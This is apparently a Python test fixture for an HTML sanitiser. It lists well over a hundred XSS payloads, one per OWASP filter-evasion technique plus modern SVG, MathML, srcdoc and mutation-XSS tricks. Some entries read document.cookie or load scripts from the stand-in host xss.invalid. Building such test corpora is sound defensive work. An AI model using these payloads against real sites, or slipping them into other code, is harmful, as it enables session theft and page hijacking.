"""Hostile HTML for the sanitiser and every page that shows what staff typed: one vector per
technique of OWASP's XSS Filter Evasion Cheat Sheet (its section names, our own payloads), plus
what modern browsers add (SVG, MathML, srcdoc, mutation XSS, template and noscript tricks).

Every payload that runs calls ``alert`` (the browser test fails on any dialog) or fetches a
``//xss.invalid`` address (refused by the Content-Security-Policy, which the browser test also
fails on), so a vector that survives both the sanitiser and escaping is caught either way.
"""

TAB, NEWLINE, CR, NUL = "\t", "\n", "\r", "\x00"


def decimal_entities(text, width=0):
    return "".join(f"&#{ord(char):0{width}d};" for char in text)


def hex_entities(text):
    return "".join(f"&#x{ord(char):X}" for char in text)


JS_ALERT = "javascript:alert('XSS')"

VECTORS = [
    ("basic script", "<SCRIPT SRC=//xss.invalid/a.js></SCRIPT>"),
    ("basic inline script", "<script>alert('XSS')</script>"),
    (
        "polyglot locator",
        "javascript:/*--></title></style></textarea></script></xmp>"
        "<svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    ),
    ("malformed a tag", '<a onmouseover="alert(document.cookie)">link</a>'),
    ("malformed a tag, no quotes", "<a onmouseover=alert(document.cookie)>link</a>"),
    ("malformed img tag", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'),
    ("fromCharCode", "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>"),
    ("default src, event", "<IMG SRC=# onmouseover=\"alert('xss')\">"),
    ("empty src, event", "<IMG SRC= onmouseover=\"alert('xss')\">"),
    ("no src, event", "<IMG onmouseover=\"alert('xss')\">"),
    ("onerror", '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'),
    ("onerror, encoded", f'<img src=x onerror="{decimal_entities("alert(1)", 7)}">'),
    ("decimal references", f"<IMG SRC={decimal_entities(JS_ALERT)}>"),
    ("decimal references, padded", f"<IMG SRC={decimal_entities(JS_ALERT, 7)}>"),
    ("hex references, no semicolons", f"<IMG SRC={hex_entities(JS_ALERT)}>"),
    ("embedded tab", f"<a href=\"jav{TAB}ascript:alert('XSS');\">x</a>"),
    ("embedded encoded tab", "<a href=\"jav&#x09;ascript:alert('XSS');\">x</a>"),
    ("embedded newline", "<a href=\"jav&#x0A;ascript:alert('XSS');\">x</a>"),
    ("embedded carriage return", "<a href=\"jav&#x0D;ascript:alert('XSS');\">x</a>"),
    ("raw newline and return", f"<a href=\"java{NEWLINE}scr{CR}ipt:alert('XSS')\">x</a>"),
    ("null in the directive", f'<a href="java{NUL}script:alert(1)">x</a>'),
    ("spaces and meta characters", "<a href=\" &#14;  javascript:alert('XSS');\">x</a>"),
    ("non-alpha-non-digit", '<SCRIPT/XSS SRC="//xss.invalid/a.js"></SCRIPT>'),
    ("non-alpha-non-digit event", '<BODY onload!#$%&()*~+-_.,:;?@[/|]^`=alert("XSS")>'),
    ("slash instead of space", '<SCRIPT/SRC="//xss.invalid/a.js"></SCRIPT>'),
    ("extraneous open brackets", '<<SCRIPT>alert("XSS");//<</SCRIPT>'),
    ("no closing script tag", "<SCRIPT SRC=//xss.invalid/a.js?< B >"),
    ("protocol resolution", "<SCRIPT SRC=//xss.invalid/.j>"),
    ("half open vector", "<IMG SRC=\"javascript:alert('XSS')\""),
    ("double open angle brackets", "<iframe src=//xss.invalid/frame.html <"),
    ("escaping javascript escapes", "\\\";alert('XSS');//"),
    ("closing script block", "</script><script>alert('XSS');</script>"),
    ("end title tag", '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'),
    ("input image", '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">'),
    ("body background", "<BODY BACKGROUND=\"javascript:alert('XSS')\">"),
    ("img dynsrc", "<IMG DYNSRC=\"javascript:alert('XSS')\">"),
    ("img lowsrc", "<IMG LOWSRC=\"javascript:alert('XSS')\">"),
    (
        "list-style-image",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>x</br>",
    ),
    ("vbscript", "<IMG SRC='vbscript:msgbox(\"XSS\")'>"),
    ("livescript", '<IMG SRC="livescript:[code]">'),
    ("svg onload", "<svg/onload=alert('XSS')>"),
    (
        "ecmascript 6 template",
        "<img src=x onerror=Set.constructor`alert\\x28document.domain\\x29`>",
    ),
    ("body onload", "<BODY ONLOAD=alert('XSS')>"),
    ("event handlers", '<p onfocus="alert(1)" tabindex="0" autofocus>focus</p>'),
    ("event handler, mouse", '<strong onmouseenter="alert(1)">hover</strong>'),
    ("event handler, animation", '<em style="animation:x" onanimationstart="alert(1)">x</em>'),
    ("bgsound", "<BGSOUND SRC=\"javascript:alert('XSS');\">"),
    ("javascript includes", "<BR SIZE=\"&{alert('XSS')}\">"),
    ("style sheet link", '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">'),
    ("remote style sheet", '<LINK REL="stylesheet" HREF="//xss.invalid/xss.css">'),
    ("remote style sheet, import", "<STYLE>@import'//xss.invalid/xss.css';</STYLE>"),
    ("remote style sheet, header", '<META HTTP-EQUIV="Link" Content="<//xss.invalid/x.css>">'),
    ("moz binding", '<STYLE>BODY{-moz-binding:url("//xss.invalid/x.xml#xss")}</STYLE>'),
    (
        "style tag breaking up javascript",
        "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    ),
    ("style attribute expression", "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">"),
    (
        "img style with expressions",
        'exp/*<A STYLE=\'no\\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))\'>',
    ),
    ("style type javascript", "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>"),
    (
        "style background-image",
        "<STYLE>.X{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=X></A>",
    ),
    ("style background", '<STYLE>BODY{background:url("//xss.invalid/x.png")}</STYLE>'),
    ("anonymous element with style", "<XSS STYLE=\"xss:expression(alert('XSS'))\">"),
    ("local htc file", '<XSS STYLE="behavior: url(xss.htc);">'),
    ("us-ascii encoding", "¼script¾alert(¢XSS¢)¼/script¾"),
    ("meta refresh", '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">'),
    (
        "meta refresh, data",
        '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,'
        'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    ),
    (
        "meta refresh, extra url",
        '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(\'XSS\');">',
    ),
    ("iframe", "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>"),
    ("iframe event", '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>'),
    ("iframe srcdoc", "<iframe srcdoc=\"<script>alert('XSS')</script>\"></iframe>"),
    ("frame", "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>"),
    ("table background", "<TABLE BACKGROUND=\"javascript:alert('XSS')\">"),
    ("td background", "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">"),
    ("div background-image", "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">"),
    (
        "div background-image, unicode",
        "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073"
        "\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0031\\0029'"
        '\\0029">',
    ),
    ("div expression", "<DIV STYLE=\"width: expression(alert('XSS'));\">"),
    ("downlevel-hidden block", "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->"),
    ("base tag", "<BASE HREF=\"javascript:alert('XSS');//\">"),
    ("object tag", '<OBJECT TYPE="text/x-scriptlet" DATA="//xss.invalid/s.html"></OBJECT>'),
    ("embed flash", '<EMBED SRC="//xss.invalid/xss.swf" AllowScriptAccess="always"></EMBED>'),
    (
        "embed svg",
        '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+" '
        'type="image/svg+xml">',
    ),
    (
        "xml data island",
        '<XML ID="x"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>'
        '<SPAN DATASRC="#x" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
    ),
    (
        "html+time",
        '<?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time">'
        '<t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert(1)</SCRIPT>">',
    ),
    ("script renamed as image", '<SCRIPT SRC="//xss.invalid/xss.jpg"></SCRIPT>'),
    (
        "server side include",
        "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"echo 'IPT>'\"-->",
    ),
    ("php", "<? echo('<SCR)'; echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>"),
    ("img embedded command", '<IMG SRC="//xss.invalid/delete.php?user=all">'),
    ("cookie manipulation", '<META HTTP-EQUIV="Set-Cookie" Content="U=<SCRIPT>alert(1)</SCRIPT>">'),
    (
        "utf-7",
        '<META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7">'
        "+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
    ),
    ("xss using html quote encapsulation", '<SCRIPT a=">" SRC="//xss.invalid/a.js"></SCRIPT>'),
    ("quote encapsulation 2", '<SCRIPT "a=\'>\'" SRC="//xss.invalid/a.js"></SCRIPT>'),
    ("quote encapsulation 3", '<SCRIPT a=`>` SRC="//xss.invalid/a.js"></SCRIPT>'),
    ("quote encapsulation 4", '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="//xss.invalid">'),
    ("url string evasion, ip", '<A HREF="http://66.102.7.147/">x</A><a href="javascript:1">y</a>'),
    ("url encoding", '<A HREF="%6A%61%76%61%73%63%72%69%70%74%3A%61%6C%65%72%74%28%31%29">x</A>'),
    ("protocol-relative", '<A HREF="//xss.invalid/">x</A>'),
    ("javascript link location", "<A HREF=\"javascript:document.location='//xss.invalid/'\">x</A>"),
    ("content replace", '<A HREF="http://www.example.org/">x</A><form action="javascript:1">'),
    ("mixed case scheme", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("data url link", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    ("svg in svg", "<svg><script>alert(1)</script></svg>"),
    ("svg animate", '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>'),
    (
        "svg use href",
        '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x"/></svg>',
    ),
    ("mathml", '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">'),
    ("mutation xss, noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("mutation xss, template", "<template><script>alert(1)</script></template>"),
    ("form action", '<form action="javascript:alert(1)"><button>go</button></form>'),
    ("button formaction", '<button formaction="javascript:alert(1)">go</button>'),
    ("details ontoggle", '<details open ontoggle="alert(1)"><summary>x</summary></details>'),
    ("video source onerror", '<video><source onerror="alert(1)"></video>'),
    ("audio onerror", "<audio src=x onerror=alert(1)>"),
    ("marquee onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("input autofocus", "<input autofocus onfocus=alert(1)>"),
    ("keygen autofocus", "<keygen autofocus onfocus=alert(1)>"),
    ("textarea break-out", "</textarea><script>alert(1)</script>"),
    ("comment break-out", "--><script>alert(1)</script><!--"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("attribute break-out", '" onmouseover="alert(1)" x="'),
    ("single-quoted attribute break-out", "' onmouseover='alert(1)' x='"),
    ("json-ld break-out", '</script><script>alert(1)</script><script type="application/ld+json">'),
    ("link target and opener", '<a href="https://xss.invalid/" target="_blank">x</a>'),
    ("srcset", '<img srcset="javascript:alert(1) 1x">'),
    ("object data javascript", '<object data="javascript:alert(1)"></object>'),
    ("meta csp override", '<meta http-equiv="Content-Security-Policy" content="script-src *">'),
]
